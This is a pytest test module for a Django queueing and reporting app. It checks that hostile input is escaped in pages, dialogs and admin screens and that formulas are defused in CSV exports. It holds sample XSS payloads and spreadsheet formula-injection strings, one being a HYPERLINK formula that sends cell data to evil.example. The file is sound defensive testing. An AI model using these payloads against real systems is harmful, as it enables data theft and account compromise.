"""Hostile input comes back inert: escaped in every page, fragment and admin screen that
shows it, and neutralised in every CSV a spreadsheet would open.

Names, numbers and unit codes are validated on the way in, so the add form refuses the
payloads (and its re-rendered form must still echo them safely). Data that never met
that validation (imported from the old system, typed into admin as a team or enquiry
type name) is written straight to the database to stand in for it.
"""

from __future__ import annotations

import csv
import html
import io
from datetime import timedelta
from html.parser import HTMLParser

import pytest
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.contenttypes.models import ContentType
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.tests.helpers import pass_two_factor
from queueing.models import EnquiryType, Team, Visit
from queueing.tests.factories import VisitFactory

pytestmark = pytest.mark.django_db

NAMES = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "url": "javascript:alert(1)",
    "template": "{{7*7}}",
    "textarea": "</textarea><script>alert(2)</script>",
    "single quote": "'-alert(1)-'",
    "formula": '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
}
#: Short enough for the student number (20) and unit code (12) columns.
NUMBERS = ['"><svg/onload=1>', "<script>x</script>", "=1+2", "@SUM(1)"]
UNIT_CODES = ["<img src=x>", '"><b>u</b>', "=1+2", "+CITS3200"]
TEAM_NAME = '"><img src=x onerror=alert(3)>'
TEAM_LABEL = "<script>alert(4)</script> Available"
ENQUIRY_TYPE = "<script>alert(5)</script>"
LOOKUP_NUMBER = "21234567"
LOOKUP_NAME = '" autofocus onfocus="alert(6)'
#: Markup from the data that must never reach a page unescaped; attributes that break
#: out of their quotes are found by parsing the page (_Markup).
MARKUP = ("<script>alert", "<script>x", "<img src=x", "<svg/onload", "<b>u</b>")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "hx-get", "hx-post"}


class _Markup(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._script: dict | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.problems.append("<img src=x>")
        if tag == "script":
            self._script = dict(attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self._script = None

    def handle_data(self, data: str) -> None:
        script = self._script
        inline = script is not None and not script.get("src")
        if inline and script.get("type") != "application/json" and "alert(" in data:
            self.problems.append(f"inline script: {data[:60]!r}")


def assert_inert(text: str, *, shows: tuple[str, ...] = ()) -> None:
    """No markup from the data is live; `shows` are values the page must display (so
    the check is not passing because the data was left out)."""
    for raw in MARKUP:
        assert raw not in text, raw
    parser = _Markup()
    parser.feed(text)
    assert parser.problems == []
    for value in shows:
        assert html.escape(value) in text, f"{value!r} is not shown (escaped)"


def assert_csv_safe(content: str) -> None:
    rows = list(csv.reader(io.StringIO(content.lstrip("\ufeff"))))
    assert len(rows) > 1
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "@", "\t", "\r"):
                raise AssertionError(f"formula cell {cell!r}")
            if cell[:1] == "-":
                float(cell)  # a negative number, not a formula


@pytest.fixture
def hostile(leader, other_leader):
    team = Team.objects.create(
        name=TEAM_NAME, slug="hostile", available_label=TEAM_LABEL, available_staff=5
    )
    enquiry_type = EnquiryType.objects.create(name=ENQUIRY_TYPE)
    studysmarter = Team.objects.get(slug="studysmarter")
    studysmarter.available_staff = 5
    studysmarter.save()
    now = timezone.now()
    visits = {}
    for n, (key, name) in enumerate(NAMES.items()):
        visits[key] = VisitFactory(
            student_name=name,
            student_number=NUMBERS[n % len(NUMBERS)],
            unit_code=UNIT_CODES[n % len(UNIT_CODES)],
            team=team if n % 2 else studysmarter,
            enquiry_type=enquiry_type,
            arrived_at=now - timedelta(minutes=40 - n),
        )
    # One in session, one just finished (the undo list), one served earlier this week.
    visits["script"].start_session(by=other_leader)
    visits["attribute"].start_session(by=leader)
    visits["attribute"].finish(by=leader)
    earlier = now - timedelta(days=1)
    VisitFactory(
        student_name=NAMES["formula"], student_number="=1+2", unit_code="=1+2",
        team=team, enquiry_type=enquiry_type, arrived_at=earlier,
        started_at=earlier + timedelta(minutes=5), ended_at=earlier + timedelta(minutes=20),
        status=Visit.Status.FINISHED, outcome=Visit.Outcome.FINISHED,
    )  # fmt: skip
    VisitFactory(student_name=LOOKUP_NAME, student_number=LOOKUP_NUMBER, arrived_at=earlier)
    # A correction that carries the payloads in its history.
    visits["url"].correct(by=leader, student_name=NAMES["textarea"])
    LogEntry.objects.create(
        user=leader, content_type=ContentType.objects.get_for_model(Visit),
        object_id=str(visits["template"].pk), object_repr=str(visits["template"]),
        action_flag=CHANGE, change_message=NAMES["script"],
    )  # fmt: skip
    return visits


def signed_in(user) -> Client:
    client = Client()
    client.force_login(user)
    if user.is_staff:
        pass_two_factor(client, user)
    return client


HTMX = {"HX-Request": "true", "HX-Current-URL": "http://testserver/desk/"}


# --- the desk ------------------------------------------------------------------------------


def test_the_desk_shows_hostile_data_inert(hostile, leader):
    client = signed_in(leader)

    page = client.get(reverse("queueing:desk"))
    board = client.get(reverse("queueing:poll"), {"v": -1}, headers=HTMX)

    assert page.status_code == board.status_code == 200
    for response in (page, board):
        assert_inert(
            response.text,
            shows=(NAMES["script"], NAMES["attribute"], NAMES["template"], TEAM_NAME,
                   ENQUIRY_TYPE, NUMBERS[1], UNIT_CODES[0], TEAM_LABEL),
        )  # fmt: skip
    assert "{{7*7}}" in page.text


@pytest.mark.parametrize("dialog", ["queueing:edit", "queueing:remove"])
@pytest.mark.parametrize("key", list(NAMES))
def test_the_desk_dialogs_show_hostile_data_inert(hostile, leader, dialog, key):
    visit = hostile[key]
    if dialog == "queueing:remove" and visit.status != Visit.Status.WAITING:
        pytest.skip("only waiting students can be removed")
    client = signed_in(leader)
    url = reverse(dialog, args=[visit.pk])

    for headers in ({}, HTMX):
        response = client.get(url, headers=headers)

        assert response.status_code == 200
        visit.refresh_from_db()
        assert_inert(response.text, shows=(visit.student_name,))


def test_the_close_dialog_is_inert(hostile, leader):
    response = signed_in(leader).get(reverse("queueing:close"), headers=HTMX)

    assert response.status_code == 200
    assert_inert(response.text)


def test_the_returning_student_look_up_is_inert(hostile, leader):
    response = signed_in(leader).post(
        reverse("queueing:student_lookup"), {"student_number": LOOKUP_NUMBER}, headers=HTMX
    )

    assert response.status_code == 200
    # In text and in the data-fill-name attribute that the script copies from.
    assert_inert(response.text, shows=(LOOKUP_NAME,))
    assert 'data-fill-name="&quot; autofocus onfocus=&quot;alert(6)"' in response.text


@pytest.mark.parametrize("field", ["student_name", "student_number", "unit_code"])
@pytest.mark.parametrize("payload", list(NAMES.values()))
def test_the_add_form_refuses_markup_and_echoes_it_inert(leader, field, payload):
    client = signed_in(leader)
    data = {
        "student_name": "Ana Safe",
        "student_number": "21111111",
        "unit_code": "CITS3200",
        "team": Team.objects.get(slug="studysmarter").pk,
        "enquiry_type": EnquiryType.objects.get(name="Essay").pk,
        field: payload,
    }

    for headers in ({}, HTMX):
        response = client.post(reverse("queueing:add"), data, headers=headers)

        assert response.status_code == 200
        assert_inert(response.text, shows=(payload,) if field != "student_number" else ())
    assert not Visit.objects.exists()


def test_the_edit_form_refuses_markup_and_writes_nothing(hostile, leader):
    visit = hostile["template"]
    client = signed_in(leader)

    response = client.post(
        reverse("queueing:edit", args=[visit.pk]),
        {
            "student_name": NAMES["attribute"],
            "student_number": "21111111",
            "unit_code": "",
            "team": visit.team_id,
            "enquiry_type": visit.enquiry_type_id,
        },
        headers=HTMX,
    )

    assert response.status_code == 200
    assert_inert(response.text, shows=(NAMES["attribute"],))
    visit.refresh_from_db()
    assert visit.student_name == NAMES["template"]


# --- reports and exports ---------------------------------------------------------------------


def test_the_reports_show_hostile_data_inert(hostile, coordinator):
    client = signed_in(coordinator)
    today = timezone.localdate().isoformat()

    dashboard = client.get(reverse("reporting:dashboard"))
    charts = client.get(reverse("reporting:dashboard"), headers={"HX-Request": "true"})
    weekly = client.get(reverse("reporting:weekly"), {"day": today})
    export = client.get(reverse("reporting:export"))

    for response in (dashboard, charts, weekly, export):
        assert response.status_code == 200
    # Unit codes and team and enquiry type names, in tables and in the charts' data.
    for response in (dashboard, charts, weekly):
        assert_inert(response.text, shows=(UNIT_CODES[0], TEAM_NAME, ENQUIRY_TYPE))
    assert_inert(export.text, shows=(TEAM_NAME,))
    # The charts' JSON cannot close its element early.
    assert "</script><" not in dashboard.text.split("figure-data", 1)[1].split("</template>")[0]


@pytest.mark.parametrize("chart", ["popular-units", "enquiry-types", "team-comparison"])
def test_the_chart_csvs_are_safe_in_a_spreadsheet(hostile, coordinator, chart):
    response = signed_in(coordinator).get(reverse("reporting:chart_csv", args=[chart]))

    assert response.status_code == 200
    assert_csv_safe(response.content.decode())


def test_the_export_is_safe_in_a_spreadsheet(hostile, coordinator):
    response = signed_in(coordinator).get(reverse("reporting:export_csv"), {"period": "last-week"})

    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode()
    assert_csv_safe(content)
    assert "'=HYPERLINK(" in content
    assert NAMES["script"] in content  # the file keeps the data as typed, only defused


# --- admin ---------------------------------------------------------------------------------


def test_admin_shows_hostile_data_inert(hostile, manager):
    client = signed_in(manager)
    corrected = hostile["url"]

    pages = {
        "visits": client.get(reverse("admin:queueing_visit_changelist")),
        "search": client.get(reverse("admin:queueing_visit_changelist"), {"q": NAMES["script"]}),
        "visit": client.get(reverse("admin:queueing_visit_change", args=[corrected.pk])),
        "teams": client.get(reverse("admin:queueing_team_changelist")),
        "enquiry types": client.get(reverse("admin:queueing_enquirytype_changelist")),
        "log": client.get(reverse("admin:admin_logentry_changelist")),
    }

    for name, response in pages.items():
        assert response.status_code == 200, name
        assert_inert(response.text)
    assert_inert(pages["visits"].text, shows=(NAMES["script"], NAMES["attribute"], TEAM_NAME))
    assert_inert(pages["search"].text, shows=(NAMES["script"],))
    # The form's values, and the correction in the visit's history.
    assert_inert(pages["visit"].text, shows=(NAMES["textarea"], NAMES["url"], ENQUIRY_TYPE))
    assert_inert(pages["teams"].text, shows=(TEAM_NAME,))
    assert_inert(pages["log"].text, shows=(NAMES["template"],))


def test_the_checker_would_catch_live_markup():
    for text in (
        "<p><script>alert(1)</script></p>",
        '<input value=""><img src=x onerror=alert(1)>">',
        '<a href="javascript:alert(1)">x</a>',
        '<button data-fill-name="" autofocus onfocus="alert(6)">',
    ):
        with pytest.raises(AssertionError):
            assert_inert(text)
    with pytest.raises(AssertionError):
        assert_csv_safe("Name\n=HYPERLINK(1)\n")
